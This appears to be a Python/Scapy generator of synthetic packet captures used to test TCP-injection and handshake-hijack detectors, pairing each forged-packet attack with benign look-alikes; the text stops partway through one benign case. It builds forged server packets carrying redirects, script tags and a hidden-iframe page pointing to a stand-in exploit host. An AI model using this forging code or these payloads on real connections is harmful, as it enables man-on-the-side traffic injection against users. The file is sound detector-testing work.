#!/usr/bin/python3
"""Writes captures/inject-*.pcap, hijack-*.pcap, inpath-*.pcap, benign-*.pcap and
badsum-*.pcap: the TCP injection detectors (tcp_injection, handshake_hijack,
forged_packet), each attack beside the benign look-alikes DESIGN.md names for it.

Every flow is seen from beside the client (192.0.2.10) talking to a web server
(198.51.100.20) about 14 hops away. Both ends are Linux-like: the handshake negotiates
MSS, SACK-permitted, timestamps and window scale; client TTL 64, server TTL 50; DF set;
IP-IDs counting up per connection; TCP timestamps on a 1 kHz clock. The forger, when
there is one, is a Scapy-style shooter on the client's gateway: TTL 64, IP-ID 1, DF
clear, window 8192, no TCP options. "S" below is the server's first data sequence
number, "C" the client's; "[a,b)" is a range of stream offsets from S. Frames 1-4 are
SYN, SYN/ACK, ACK and the GET unless said otherwise; a "dup ACK" is the client's
duplicate ACK with a D-SACK or SACK block for what it got twice or out of order.

Attacks (each must raise the named finding):

  inject-equal          5 forged 302 at exactly the range of the genuine reply [0,567),
                        other bytes; 6 client ACK; 7 genuine 200 OK, 20 ms after 5;
                        8 dup ACK; 9-11 close. tcp_injection high, forged 5.
  inject-partial        5 forged [300,600) (script); 6 dup ACK (SACK); 7 genuine reply
                        [0,600), 20 ms after 5; 8 ACK; 9-11 close. The forged copy
                        overlaps only the genuine one's second half. Forged 5.
  inject-contained      5 forged [200,260) inside the genuine [0,600) of frame 7;
                        otherwise as inject-partial. Forged 5.
  inject-ahead          the reply comes in three segments, [0,500) (5), [500,1000) (9)
                        and [1000,1300) (10); 6 client ACK of 5; 7 forged [700,1000)
                        ahead of the stream (a gap before it); 8 dup ACK (SACK); 9
                        fills the gap and the forged range with other bytes; 11 ACK;
                        12-14 close. Forged 7.
  inject-far-ahead      the reply is 20500 bytes in 41 segments of 500; 5 [0,500); 6
                        client ACK; 7 forged [20000,20400) far ahead of the stream (a
                        script); 8 dup ACK (SACK); 9-48 the genuine [500,20500) in order,
                        so 40 segments pass before 48 carries the forged range again; 49
                        ACK; 50-52 close. The forged copy has left the 32-entry segment
                        log but is kept in the ahead log: forged 7, genuine 48.
  inject-fin            SecondDate style: 5 forged 200 OK with only Pragma, Content-Type,
                        Content-Length and Cache-Control, a page that reloads itself and
                        holds a 1x1 iframe, FIN|PSH|ACK; 6 client ACK (of the FIN too);
                        7 client FIN; 8 genuine reply, 20 ms after 5, after both closes;
                        9 client RST (the socket is gone). tcp_injection, after_close.
  inject-genuine-first  5 genuine reply; 6 ACK; 7 forged copy of the same range 5 ms
                        later; 8 dup ACK; 9-11 close. Forged 7.
  inject-retransmits    5 forged 302; 6 ACK; 7 genuine reply 20 ms later; 8 dup ACK;
                        then 30 retransmissions of the genuine reply (the client's ACKs
                        never reach the server), each answered by a dup ACK (9-68);
                        69-71 close. Exactly one alert.
  inject-mirror         5 forged copy of the reply's range that copies the IP-ID (0x2A03)
                        and window (502) of the client's GET (frame 4), has the server's
                        TTL 50 and DF, and no TCP options; 6 ACK; 7 genuine, 20 ms
                        later; 8 dup ACK; 9-11 close.
  inject-straddle       the reply in two segments [0,600) (7) and [600,900) (8); 5 forged
                        [300,750) overlapping the second half of one and the first half of
                        the other; 6 dup ACK; 9 ACK; 10-12 close. One alert.
  hijack-synack         1 SYN; 2 forged SYN/ACK (ISN 0x0BADF00D, TTL 64, no options,
                        window 8192, DF clear, IP-ID 1), 1 ms after it; 3 client ACK of
                        it; 4 GET (both without timestamps: the SYN/ACK taken had none); 5 the real SYN/ACK (ISN 0x5A6B7C8D, TTL 50, full
                        options); 6 client ACK (of the first ISN still); 7, 8 the real
                        server's RSTs (TTL 50) answering 3 and 4, which acknowledged an
                        ISN it never sent. handshake_hijack, frame 2 forged.
  hijack-synack-retransmit  benign: 1 SYN; 2 the SYN again 1 s later (the first SYN/ACK
                        was lost on the way); 3 SYN/ACK; 4 ACK; 5 GET; 6 the same SYN/ACK
                        again (same ISN, answering the second SYN); 7 client ACK; 8
                        reply; 9 ACK; 10-12 close. Silent.
  hijack-copied-synack  the forger copies the real SYN/ACK's headers: 1 SYN; 2 forged
                        SYN/ACK 1 ms after it (ISN 0x0BADF00D) with the server's TTL 50,
                        DF, window and options, IP-ID 0, but a TSval from its own clock
                        (0x6E2F5A11); 3 client ACK of it; 4 GET; 5 the real SYN/ACK
                        (TSval on the server's clock, 12 ms after the SYN); 6 the
                        client's duplicate ACK (of the forged ISN still); 7, 8 the real
                        server's RFC 9293 RSTs answering 3 and 4 (seq = their ACK
                        number, the forged ISN + 1: it never sent that ISN).
                        handshake_hijack high, frame 2 forged; the RSTs are not called
                        forged.
  hijack-copied-late    the same forger loses the race: 1 SYN; 2 the real SYN/ACK; 3
                        the forged copy 300 us later (ISN 0x0BADF00D, the server's TTL,
                        DF, window and options, its own TSval clock); 4 client ACK of the
                        real one; 5 its duplicate ACK answering the forged one; 6 GET; 7
                        the reply, TSval on the server's clock; 8 ACK; 9-11 close.
                        handshake_hijack high, frame 3 forged, proof timestamp_clock.
  inpath-forged         an in-path forger dropped the real reply: 5 the reply segment,
                        a 302 to an exploit URL with FIN|PSH|ACK from the forger's stack;
                        6 client ACK; 7 client FIN. No genuine copy. forged_packet.
  inpath-forged-second  the same on the second request of a kept-alive connection: 5
                        first reply (genuine), 6 ACK, 7 second GET 2 s later, 8 the
                        forged 302 in place of its reply, 9 ACK, 10 client FIN.

Benign twins (each must stay silent):

  benign-retransmit     5 reply; 6 ACK (lost beyond the capture point); 7 the same
                        reply again 212 ms later; 8 dup ACK; 9-11 close.
  benign-repacketised   reply in [0,500) (5), [500,1000) (6), [1000,1400) (7); 8 ACK;
                        retransmitted as [400,900) (9), [0,1000) (10, coalescing 5 and
                        6), [1000,1150) (11), [1150,1400) (12), same bytes, each
                        answered by a dup ACK (13-16); 17-19 close.
  benign-keepalive      5 reply, 6 ACK; client keep-alives 1 byte at C-1 with 0x00 (7),
                        0x41 (9), 0xff (11), 45 s apart, each ACKed by the server (8,
                        10, 12); a zero-length keep-alive (13, ACK 14); a server
                        keep-alive 1 byte at S-1 with 0x00 (15, ACK 16); a second GET
                        (17) and reply (18); 19 ACK; 20-22 close.
  benign-zero-window-probe  5, 6 the reply's first 1000 bytes; 7 client ACK with window
                        0; 8, 10, 12 one-byte probes of the next byte (offset 1000), each
                        answered with window 0 (9, 11, 13); 14 window update; 15, 16 the
                        rest [1000,1800); 17 ACK; 18-20 close.
  benign-padding        a Windows client (TTL 128, no timestamps negotiated) on a
                        line protocol (port 23): 1-byte keystrokes and their 1-byte
                        echoes in 60-byte frames, the Ethernet padding after the IP
                        packet being junk that changes from frame to frame; frame 10 is
                        the echo of frame 9 again with other padding; every third pad
                        is zeros. Every frame shorter than 60 bytes is padded.
  benign-snaplen        snap length 96: the reply (5) and its retransmission (7) are both
                        cut 30 bytes into their payload.
  benign-seq-wrap       the client's GET (4) crosses 2^32; the server's reply [0,500)
                        (5), [500,1000) (6, crossing 2^32), [1000,1300) (7); 8 ACK; 9
                        retransmits 6 across the wrap; 10 dup ACK; 11-13 close.
  benign-duplicate-capture  a two-segment reply flow in which every packet is captured
                        twice, 2 us apart, byte for byte (same IP-ID).
  benign-route-change   two requests on one connection (4, 7); from the second reply on
                        (frame 8) the server's TTL is 48 instead of 50; 9 ACK; 10 the
                        second reply retransmitted (TTL 48); 11 dup ACK; 12-14 close.
  benign-nat            every server packet has TTL 64 and no TCP timestamps from the
                        SYN/ACK on (a NAT or proxy that strips them); the reply (5) is a
                        Connection: close reply with FIN|PSH|ACK; 6 ACK; 7 client FIN;
                        8 last ACK.
  benign-rst-after-close  5 reply with FIN (Connection: close); 6 ACK; 7 client FIN;
                        8 server's last ACK; the client's socket is gone; 9 a network
                        duplicate of 8 (same bytes) 300 ms later; 10 client RST answering
                        it (Linux style: no timestamps, IP-ID 0, window 0).
  hijack-benign-same-clock  the capture is taken beside the server: 1 SYN; 2 SYN/ACK
                        (ISN A), lost beyond the capture point; the client retransmits its
                        SYN at 1, 3, 7, 15 and 31 s (3, 5, 7, 9, 11), each answered with A
                        again (4, 6, 8, 10, 12); the server gives up on the half-open
                        connection after its fifth SYN/ACK retransmission, so the SYN at
                        63 s (13) opens a new one: 14 SYN/ACK with another ISN, same
                        headers, TSval 63 s on on the same clock; 15 ACK; 16 GET; 17
                        reply; 18 ACK; 19-21 close. Silent.
  benign-far-ahead      as inject-far-ahead, but frame 7 is the genuine [20000,20500)
                        arriving early (the segments before it were lost between the
                        server and the capture point); 9-48 their retransmissions and
                        that segment's own, same bytes. Silent.
  badsum-conflict       5 reply whose payload was damaged on the way (8 bytes changed,
                        TCP checksum no longer right), never acknowledged; 6 the good copy
                        220 ms later; 7 ACK; 8-10 close. At most a low-confidence finding.
"""

from scapy.all import IP, TCP, raw

import goldenlib as g

C, S = g.CLIENT, g.SERVER
MS, US = g.MS, g.US
M32 = 0xFFFFFFFF

REQUEST = (b"GET / HTTP/1.1\r\nHost: www.example.com\r\n"
           b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0\r\n"
           b"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
           b"Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n"
           b"Connection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n\r\n")
REQUEST2 = REQUEST.replace(b"GET / ", b"GET /news.html ")

EXPLOIT = b"http://exploit.example/landing/7f3a"


def page(n, title=b"Example Domain"):
    """An HTML page of exactly n bytes."""
    head = b"<!DOCTYPE html>\n<html><head><title>" + title + b"</title></head>\n<body>\n"
    tail = b"</body></html>\n"
    para = (b"<p>This domain is for use in illustrative examples in documents. "
            b"You may use it without asking.</p>\n")
    mid = b""
    while len(head) + len(mid) + len(tail) < n:
        mid += para
    mid = mid[:n - len(head) - len(tail) - 1] + b"\n"
    out = head + mid + tail
    assert len(out) == n, (len(out), n)
    return out


def http(status, headers, body):
    """An HTTP/1.1 response; Content-Length is filled in where headers say b"%d"."""
    lines = [b"HTTP/1.1 " + status]
    for h in headers:
        lines.append(h.replace(b"%d", str(len(body)).encode()))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def reply(total, connection=b"keep-alive", title=b"Example Domain"):
    """The real server's 200 OK, exactly `total` bytes long."""
    heads = [b"Server: nginx/1.24.0", b"Date: Mon, 15 Jan 2024 10:00:00 GMT",
             b"Content-Type: text/html; charset=UTF-8", b"Content-Length: %d",
             b"Last-Modified: Thu, 17 Oct 2019 07:18:26 GMT", b"Connection: " + connection]
    body_len = total - (len(http(b"200 OK", heads, b"x" * 100)) - 100)
    if len(str(body_len)) != 3:  # Content-Length has another number of digits
        body_len -= len(str(body_len)) - 3
    out = http(b"200 OK", heads, page(body_len, title))
    assert len(out) == total, (len(out), total)
    return out


def short_reply(total):
    """A short 200 OK of exactly `total` bytes (a few headers, a small page)."""
    heads = [b"Server: nginx/1.24.0", b"Content-Type: text/html", b"Content-Length: %d"]
    body_len = total - (len(http(b"200 OK", heads, b"x" * 10)) - 10)
    body = (b"<html><body><p>ok</p>" + b"\n" * body_len)[:body_len - 15] + b"</body></html>\n"
    out = http(b"200 OK", heads, body)
    assert len(out) == total, (len(out), total)
    return out


def redirect(total):
    """A forged 302 to the exploit server, padded with a body to exactly `total`."""
    heads = [b"Location: " + EXPLOIT, b"Content-Type: text/html", b"Content-Length: %d"]
    head_len = len(http(b"302 Found", heads, b"x" * 100)) - 100
    if total - head_len < 100:  # a two-digit Content-Length
        head_len -= 1
    body = b"<html><body><a href=\"" + EXPLOIT + b"\">Moved</a></body></html>\n"
    if len(body) >= total - head_len:
        body = b"<a href=\"" + EXPLOIT + b"\">Moved</a>\n"
    body = body.ljust(total - head_len - 1, b" ") + b"\n"
    out = http(b"302 Found", heads, body)
    assert len(out) == total, (len(out), total)
    return out


def script_chunk(n):
    """n bytes of HTML that pull a script from the exploit server."""
    s = b"<script src=\"" + EXPLOIT + b".js\"></script>\n"
    out = (s * (n // len(s) + 1))[:n]
    return out


SECONDDATE_BODY = (b"<html><head><script>setTimeout(function(){window.location.reload();},"
                   b"1500);</script></head><body><iframe src=\"" + EXPLOIT + b"\" width=1 "
                   b"height=1 frameborder=0></iframe></body></html>")
SECONDDATE = http(b"200 OK", [b"Pragma: no-cache", b"Content-Type: text/html",
                              b"Content-Length: %d", b"Cache-Control: no-cache"],
                  SECONDDATE_BODY)
QI_302 = http(b"302 Found", [b"Location: " + EXPLOIT, b"Content-Length: 0"], b"")


# --- the two stacks and the forger ----------------------------------------------------

conv = g.linux_conv


def data_start(cv, side):
    return cv.nxt[side]


def forged(cv, payload, seq, flags="PA", dt=1 * MS, ack=None, ipid=1, ttl=64, df=False,
           window=8192):
    """A Scapy-style shot posing as the server; leaves the connection's state alone
    but for the clock."""
    cv.now += dt
    if ack is None:
        ack = cv.nxt[C]
    ip = IP(src=cv.addr[S], dst=cv.addr[C], ttl=ttl, id=ipid, flags="DF" if df else 0)
    tcp = TCP(sport=cv.port[S], dport=cv.port[C], seq=seq & M32, ack=ack & M32,
              flags=flags, window=window, options=[])
    return g.Pkt(cv.now, S, ip / tcp / payload)


def linux_rst(cv, side, seq, dt=100 * US):
    """A reset from a Linux stack that has no socket for the segment it answers: seq
    from the segment's ACK, no ACK flag, no options, window 0, IP-ID 0, DF."""
    cv.now += dt
    ip = IP(src=cv.addr[side], dst=cv.addr[1 - side], ttl=cv.ttl[side], id=0, flags="DF")
    tcp = TCP(sport=cv.port[side], dport=cv.port[1 - side], seq=seq & M32, ack=0,
              flags="R", window=0, options=[])
    return g.Pkt(cv.now, side, ip / tcp)


def dupack(cv, left, right, dt=100 * US):
    """The client's duplicate ACK with a (D-)SACK block."""
    return cv.seg(C, "A", dt=dt, sack=[(left, right)])


def request(cv, req=REQUEST):
    return cv.seg(C, "PA", req, dt=200 * US)


# --- attacks --------------------------------------------------------------------------

def inject_equal():
    cv = conv(50100)
    genuine = reply(567)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(forged(cv, redirect(len(genuine)), s, dt=5 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(genuine)))
    pkts.append(cv.seg(S, "PA", genuine, dt=20 * MS - 100 * US, seq=s))
    pkts.append(dupack(cv, s, s + len(genuine)))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def inject_overlap(sport, lo, hi):
    """A forged [lo,hi) inside the genuine [0,600), first; the genuine 20 ms later."""
    cv = conv(sport)
    genuine = reply(600)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(forged(cv, script_chunk(hi - lo), s + lo, dt=5 * MS))
    pkts.append(dupack(cv, s + lo, s + hi))
    pkts.append(cv.seg(S, "PA", genuine, dt=20 * MS - 100 * US, seq=s))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def inject_ahead():
    cv = conv(50103)
    genuine = reply(1300)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "A", genuine[:500], dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(forged(cv, script_chunk(300), s + 700, dt=1 * MS))
    pkts.append(dupack(cv, s + 700, s + 1000))
    pkts.append(cv.seg(S, "A", genuine[500:1000], dt=12 * MS - 200 * US, seq=s + 500))
    pkts.append(cv.seg(S, "PA", genuine[1000:], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 14
    return g.on_ether(pkts)


def long_reply(total):
    """A 200 OK of exactly `total` bytes with a long page."""
    heads = [b"Server: nginx/1.24.0", b"Content-Type: text/html", b"Content-Length: %d"]
    head_len = len(http(b"200 OK", heads, b"x" * 10000)) - 10000
    out = http(b"200 OK", heads, page(total - head_len))
    assert len(out) == total, (len(out), total)
    return out


def far_ahead(sport, forge):
    """41 segments of 500 bytes; frame 7 is [20000,20500) early, forged or genuine."""
    cv = conv(sport)
    genuine = long_reply(20500)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "A", genuine[:500], dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    if forge:
        pkts.append(forged(cv, script_chunk(400), s + 20000, dt=1 * MS))
        pkts.append(dupack(cv, s + 20000, s + 20400))
    else:
        pkts.append(cv.seg(S, "A", genuine[20000:], dt=1 * MS, seq=s + 20000,
                           advance=False))
        pkts.append(dupack(cv, s + 20000, s + 20500))
    dt = 12 * MS
    for lo in range(500, 20500, 500):
        pkts.append(cv.seg(S, "PA" if lo == 20000 else "A", genuine[lo:lo + 500], dt=dt,
                           seq=s + lo))
        dt = 50 * US
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 52
    return g.on_ether(pkts)


def inject_fin():
    cv = conv(50104)
    genuine = reply(600)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    c = cv.nxt[C]
    pkts.append(forged(cv, SECONDDATE, s, flags="FPA", dt=5 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(SECONDDATE) + 1))
    pkts.append(cv.seg(C, "FA", dt=1 * MS, ack=s + len(SECONDDATE) + 1))
    pkts.append(cv.seg(S, "PA", genuine, dt=20 * MS - 1100 * US, seq=s, ack=c))
    pkts.append(linux_rst(cv, C, c))
    assert len(pkts) == 9
    return g.on_ether(pkts)


def inject_genuine_first():
    cv = conv(50105)
    genuine = reply(567)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "PA", genuine, dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(forged(cv, redirect(len(genuine)), s, dt=5 * MS - 100 * US))
    pkts.append(dupack(cv, s, s + len(genuine)))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def inject_retransmits():
    cv = conv(50106)
    genuine = short_reply(180)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(forged(cv, redirect(len(genuine)), s, dt=5 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(genuine)))
    pkts.append(cv.seg(S, "PA", genuine, dt=20 * MS - 100 * US, seq=s))
    pkts.append(dupack(cv, s, s + len(genuine)))
    rto = 200 * MS
    for _ in range(30):
        pkts.append(cv.seg(S, "PA", genuine, dt=rto, seq=s))
        pkts.append(dupack(cv, s, s + len(genuine)))
        rto = min(rto * 2, 3200 * MS)
    pkts += cv.close()
    assert len(pkts) == 71
    return g.on_ether(pkts)


def inject_mirror():
    cv = conv(50107)
    genuine = reply(567)
    pkts = cv.handshake()
    get = request(cv)
    pkts.append(get)
    s = data_start(cv, S)
    pkts.append(forged(cv, redirect(len(genuine)), s, dt=5 * MS, ipid=get.ip.id,
                       window=get.ip[TCP].window, ttl=cv.ttl[S], df=True))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(genuine)))
    pkts.append(cv.seg(S, "PA", genuine, dt=20 * MS - 100 * US, seq=s))
    pkts.append(dupack(cv, s, s + len(genuine)))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def inject_straddle():
    cv = conv(50123)
    genuine = reply(900)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(forged(cv, script_chunk(450), s + 300, dt=5 * MS))
    pkts.append(dupack(cv, s + 300, s + 750))
    pkts.append(cv.seg(S, "A", genuine[:600], dt=20 * MS - 100 * US, seq=s))
    pkts.append(cv.seg(S, "PA", genuine[600:], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 12
    return g.on_ether(pkts)


def hijack_synack():
    cv = conv(50108)
    real_isn = cv.nxt[S]
    fake_isn = 0x0BADF00D
    syn = cv.seg(C, "S", dt=0)
    cv.now += 1 * MS
    fake = g.Pkt(cv.now, S, IP(src=cv.addr[S], dst=cv.addr[C], ttl=64, id=1, flags=0)
                 / TCP(sport=cv.port[S], dport=cv.port[C], seq=fake_isn,
                       ack=cv.nxt[C], flags="SA", window=8192, options=[]))
    cv.nxt[S] = fake_isn + 1  # what the client now believes
    # The SYN/ACK it took offered no options: no timestamps, no window scaling.
    plain = {"options": [], "window": 64240}
    ack = cv.seg(C, "A", dt=100 * US, **plain)
    get = cv.seg(C, "PA", REQUEST, dt=200 * US, **plain)
    # The real SYN/ACK, 12 ms after the SYN, with the server's own ISN and options.
    tsval_c, cv.tsval[C] = cv.tsval[C], cv.ts_base[C]  # it echoes the SYN's timestamp
    real = cv.seg(S, "SA", dt=12 * MS - 1300 * US, seq=real_isn, advance=False,
                  ack=syn.ip[TCP].seq + 1)
    cv.tsval[C] = tsval_c
    dup = cv.seg(C, "A", dt=100 * US, **plain)
    # The real server never sent fake_isn: it resets the ACK and the GET.
    rst1 = linux_rst(cv, S, fake_isn + 1, dt=11 * MS)
    rst2 = linux_rst(cv, S, fake_isn + 1, dt=200 * US)
    return g.on_ether([syn, fake, ack, get, real, dup, rst1, rst2])


def hijack_copied_synack():
    cv = conv(50125)
    fake_isn = 0x0BADF00D
    syn = cv.seg(C, "S", dt=0)
    # The forger copies everything a SYN/ACK of this server shows but its clock.
    real_isn = cv.nxt[S]
    cv.tsval[S] = 0x6E2F5A11
    fake = cv.seg(S, "SA", dt=1 * MS, seq=fake_isn, advance=False, ipkw={"id": 0},
                  options=[("MSS", 1460), ("SAckOK", b""),
                           ("Timestamp", (0x6E2F5A11, cv.tsval[C])), ("NOP", None),
                           ("WScale", 7)])
    cv.ipid[S] -= 1  # the forger's packet did not use the server's IP-ID counter
    cv.nxt[S] = fake_isn + 1  # what the client now believes
    ack = cv.seg(C, "A", dt=100 * US)
    get = request(cv)
    tsval_c, cv.tsval[C] = cv.tsval[C], cv.ts_base[C]  # it echoes the SYN's timestamp
    real = cv.seg(S, "SA", dt=12 * MS - 1300 * US, seq=real_isn, advance=False,
                  ack=syn.ip[TCP].seq + 1)
    cv.tsval[C] = tsval_c
    dup = cv.seg(C, "A", dt=100 * US)
    # The real server never sent fake_isn: it resets the ACK and the GET (RFC 9293
    # section 3.10.7.3: SYN-RECEIVED, unacceptable ACK: <SEQ=SEG.ACK><CTL=RST>).
    rst1 = linux_rst(cv, S, fake_isn + 1, dt=11 * MS)
    rst2 = linux_rst(cv, S, fake_isn + 1, dt=200 * US)
    return g.on_ether([syn, fake, ack, get, real, dup, rst1, rst2])


def hijack_copied_late():
    cv = conv(50129)
    syn = cv.seg(C, "S", dt=0)
    real = cv.seg(S, "SA", dt=12 * MS)
    tsval_s = cv.tsval[S]
    cv.tsval[S] = 0x6E2F5A11
    fake = cv.seg(S, "SA", dt=300 * US, seq=0x0BADF00D, advance=False, ipkw={"id": 0},
                  ack=syn.ip[TCP].seq + 1,
                  options=[("MSS", 1460), ("SAckOK", b""),
                           ("Timestamp", (0x6E2F5A11, cv.tsval[C])), ("NOP", None),
                           ("WScale", 7)])
    cv.ipid[S] -= 1
    cv.tsval[S] = tsval_s
    pkts = [syn, real, fake, cv.seg(C, "A", dt=100 * US),
            cv.seg(C, "A", dt=50 * US), request(cv),
            cv.seg(S, "PA", reply(567), dt=25 * MS), cv.seg(C, "A", dt=100 * US)]
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def hijack_benign_same_clock():
    cv = conv(50126)
    isn_a, isn_b = cv.nxt[S], 0x7C3A9E55
    syn = cv.seg(C, "S", dt=0)
    pkts = [syn, cv.seg(S, "SA", dt=12 * MS, seq=isn_a, advance=False)]
    at = 0
    for k in range(5):  # Linux: SYN retransmissions at 1, 3, 7, 15, 31 s
        nxt = (2 ** (k + 1) - 1) * 1000 * MS
        pkts.append(cv.seg(C, "S", dt=nxt - at - 12 * MS if k else nxt - 12 * MS,
                           seq=syn.ip[TCP].seq, advance=False))
        pkts.append(cv.seg(S, "SA", dt=12 * MS, seq=isn_a, advance=False,
                           ack=syn.ip[TCP].seq + 1))
        at = nxt
    # The half-open connection is gone; the SYN at 63 s gets a new one, a new ISN.
    pkts.append(cv.seg(C, "S", dt=63000 * MS - at - 12 * MS, seq=syn.ip[TCP].seq,
                       advance=False))
    pkts.append(cv.seg(S, "SA", dt=12 * MS, seq=isn_b, ack=syn.ip[TCP].seq + 1))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(request(cv))
    pkts.append(cv.seg(S, "PA", reply(567), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 21
    return g.on_ether(pkts)


def hijack_synack_retransmit():
    cv = conv(50109)
    syn = cv.seg(C, "S", dt=0)
    # No answer within a second (the first SYN/ACK was lost on the way): the client
    # sends the SYN again; the server's own timer resends its SYN/ACK, and it answers
    # the second SYN with the same SYN/ACK once more. Same ISN each time.
    syn2 = cv.seg(C, "S", dt=1000 * MS, seq=cv.nxt[C] - 1)
    isn = cv.nxt[S]
    sa1 = cv.seg(S, "SA", dt=12 * MS, seq=isn)
    ack = cv.seg(C, "A", dt=100 * US)
    get = request(cv)
    sa2 = cv.seg(S, "SA", dt=600 * US, seq=isn, ack=syn.ip[TCP].seq + 1)
    dup = cv.seg(C, "A", dt=100 * US)
    pkts = [syn, syn2, sa1, ack, get, sa2, dup,
            cv.seg(S, "PA", reply(567), dt=25 * MS),
            cv.seg(C, "A", dt=100 * US)] + cv.close()
    assert len(pkts) == 12
    return g.on_ether(pkts)


def inpath_forged():
    cv = conv(50110)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(forged(cv, QI_302, s, flags="FPA", dt=1 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(QI_302) + 1))
    pkts.append(cv.seg(C, "FA", dt=1 * MS, ack=s + len(QI_302) + 1))
    assert len(pkts) == 7
    return g.on_ether(pkts)


def inpath_forged_second():
    cv = conv(50124)
    pkts = cv.handshake() + [request(cv)]
    pkts.append(cv.seg(S, "PA", reply(567), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(C, "PA", REQUEST2, dt=2000 * MS))
    s = data_start(cv, S)
    pkts.append(forged(cv, QI_302, s, flags="FPA", dt=1 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US, ack=s + len(QI_302) + 1))
    pkts.append(cv.seg(C, "FA", dt=1 * MS, ack=s + len(QI_302) + 1))
    assert len(pkts) == 10
    return g.on_ether(pkts)


# --- benign twins ---------------------------------------------------------------------

def benign_retransmit():
    cv = conv(50111)
    rep = reply(567)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "PA", rep, dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(S, "PA", rep, dt=212 * MS, seq=s))
    pkts.append(dupack(cv, s, s + len(rep)))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def benign_repacketised():
    cv = conv(50112)
    rep = reply(1400)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "A", rep[:500], dt=25 * MS))
    pkts.append(cv.seg(S, "A", rep[500:1000], dt=50 * US))
    pkts.append(cv.seg(S, "PA", rep[1000:], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    rtx = []
    dt = 212 * MS
    for lo, hi in ((400, 900), (0, 1000), (1000, 1150), (1150, 1400)):
        rtx.append(cv.seg(S, "PA" if hi == 1400 else "A", rep[lo:hi], dt=dt, seq=s + lo))
        dt = 50 * US
    pkts += rtx
    for lo, hi in ((400, 900), (0, 1000), (1000, 1150), (1150, 1400)):
        pkts.append(dupack(cv, s + lo, s + hi))
    pkts += cv.close()
    assert len(pkts) == 19
    return g.on_ether(pkts)


def benign_keepalive():
    cv = conv(50113)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "PA", reply(567), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    c = cv.nxt[C]
    for byte in (b"\x00", b"\x41", b"\xff"):
        pkts.append(cv.seg(C, "A", byte, dt=45000 * MS, seq=c - 1, advance=False))
        pkts.append(cv.seg(S, "A", dt=12 * MS))
    pkts.append(cv.seg(C, "A", dt=45000 * MS, seq=c - 1, advance=False))
    pkts.append(cv.seg(S, "A", dt=12 * MS))
    s = cv.nxt[S]
    pkts.append(cv.seg(S, "A", b"\x00", dt=30000 * MS, seq=s - 1, advance=False))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(request(cv, REQUEST2))
    pkts.append(cv.seg(S, "PA", reply(480, title=b"News"), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 22
    return g.on_ether(pkts)


def benign_zero_window_probe():
    cv = conv(50114)
    rep = reply(1800)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "A", rep[:500], dt=25 * MS))
    pkts.append(cv.seg(S, "A", rep[500:1000], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US, window=0))
    dt = 212 * MS
    for _ in range(3):
        pkts.append(cv.seg(S, "A", rep[1000:1001], dt=dt, seq=s + 1000, advance=False))
        pkts.append(cv.seg(C, "A", dt=100 * US, window=0))
        dt *= 2
    pkts.append(cv.seg(C, "A", dt=300 * MS))
    pkts.append(cv.seg(S, "A", rep[1000:1500], dt=12 * MS, seq=s + 1000))
    pkts.append(cv.seg(S, "PA", rep[1500:], dt=50 * US))
